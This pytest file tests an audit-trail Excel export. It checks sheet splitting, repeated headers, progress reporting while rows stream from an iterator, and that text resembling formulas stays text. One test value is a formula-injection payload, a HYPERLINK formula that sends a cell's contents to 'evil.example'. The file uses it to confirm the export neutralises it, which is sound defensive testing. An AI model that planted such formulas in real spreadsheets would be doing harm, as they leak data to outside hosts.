"""audit_excel.py: a trail longer than a worksheet holds goes on in further worksheets,
every row once and in order, each sheet with its header, no cell a formula.

The limit is lowered (``sheet_rows`` or the module's ``SHEET_ROWS``) so that no test
writes the million rows a real worksheet takes."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from contest_desk.domain.audit_words import time_heading
from contest_desk.domain.records.audit import AuditRow
from contest_desk.i18n import speaking
from contest_desk.reports import audit_excel
from contest_desk.reports.audit_excel import write_audit_excel

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
AT = dt.datetime(2026, 3, 1, 8, 30, tzinfo=dt.UTC)


def trail(count: int) -> list[AuditRow]:
    """``count`` rows, newest first as the audit view lists them; the oldest row's reason
    looks like a formula."""
    return [
        AuditRow(
            seq=seq,
            at=AT + dt.timedelta(minutes=seq),
            actor="system",
            action="score.record",
            target=f"entry:{seq}",
            detail={"old": "7", "new": "8"},
            note=HYPERLINK if seq == 1 else f"复核 {seq}",
        )
        for seq in range(count, 0, -1)
    ]


def read_back(path: Path) -> dict[str, list[tuple[object, ...]]]:
    book = load_workbook(path)
    return {
        sheet.title: [tuple(c.value for c in row) for row in sheet.iter_rows()]
        for sheet in book.worksheets
    }


def test_rows_past_a_worksheet_go_on_in_the_next(tmp_path: Path) -> None:
    with speaking("zh_CN"):
        path = write_audit_excel(tmp_path / "审计记录.xlsx", trail(7), sheet_rows=3)
        time = time_heading()  # the desk's zone: 时间（北京时间） in China
    sheets = read_back(path)
    assert list(sheets) == ["审计记录", "审计记录 (2)", "审计记录 (3)", "审计记录 (4)"]
    headers = {rows[0] for rows in sheets.values()}
    assert len(headers) == 1 and headers.pop()[:3] == ("序号", time, "用户")
    assert [len(rows) for rows in sheets.values()] == [3, 3, 3, 2]  # header and 2, 2, 2, 1
    seqs = [row[0] for rows in sheets.values() for row in rows[1:]]
    assert seqs == [7, 6, 5, 4, 3, 2, 1]  # each once, newest first, as the view lists them
    assert sheets["审计记录 (4)"][1][7] == "'" + HYPERLINK  # the guard on the last sheet too

    last = load_workbook(path)["审计记录 (4)"]
    assert last["H2"].data_type == "s"
    assert last["B2"].is_date and last.freeze_panes == "A2"


def test_rows_that_just_fill_a_worksheet_take_no_further_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_excel, "SHEET_ROWS", 5)  # what the audit view's export uses
    with speaking("en"):
        full = read_back(write_audit_excel(tmp_path / "full.xlsx", trail(4)))
        over = read_back(write_audit_excel(tmp_path / "over.xlsx", trail(5)))
        empty = read_back(write_audit_excel(tmp_path / "empty.xlsx", []))
    assert [len(rows) for rows in full.values()] == [5]
    assert {title: len(rows) for title, rows in over.items()} == {
        "Audit trail": 5,
        "Audit trail (2)": 2,
    }
    assert over["Audit trail (2)"][1][0] == 1
    assert [len(rows) for rows in empty.values()] == [1]  # the header alone


def test_rows_are_written_as_an_iterator_hands_them_out(tmp_path: Path) -> None:
    """The trail need not be a list (the export reads it in pages as it writes): each row
    is taken when it is written, with the total it is given for the progress."""
    taken: list[int] = []
    told: list[tuple[int, int]] = []

    def rows() -> Iterator[AuditRow]:
        for row in trail(5):
            taken.append(row.seq)
            yield row

    def progress(done: int, total: int) -> bool:
        told.append((done, total))
        assert len(taken) == done + 1  # the row about to be written, none after it
        return True

    with speaking("en"):
        path = write_audit_excel(tmp_path / "a.xlsx", rows(), progress, sheet_rows=3, total=5)
    assert told == [(n, 5) for n in range(5)]
    assert [row[0] for rows in read_back(path).values() for row in rows[1:]] == [5, 4, 3, 2, 1]


def test_text_that_reads_as_an_error_or_a_formula_stays_text(tmp_path: Path) -> None:
    """Each text cell is guarded as it is appended: an error's name, a formula in the
    details, on a later worksheet as on the first."""
    rows = [
        replace(row, note="#N/A", detail={"why": "=1+1"}) if row.seq < 3 else row
        for row in trail(4)
    ]
    with speaking("en"):
        path = write_audit_excel(tmp_path / "a.xlsx", rows, sheet_rows=3)
    last = load_workbook(path)["Audit trail (2)"]
    assert [(c.value, c.data_type) for c in last[2][7:9]] == [
        ("#N/A", "s"),
        ('{"why": "=1+1"}', "s"),
    ]
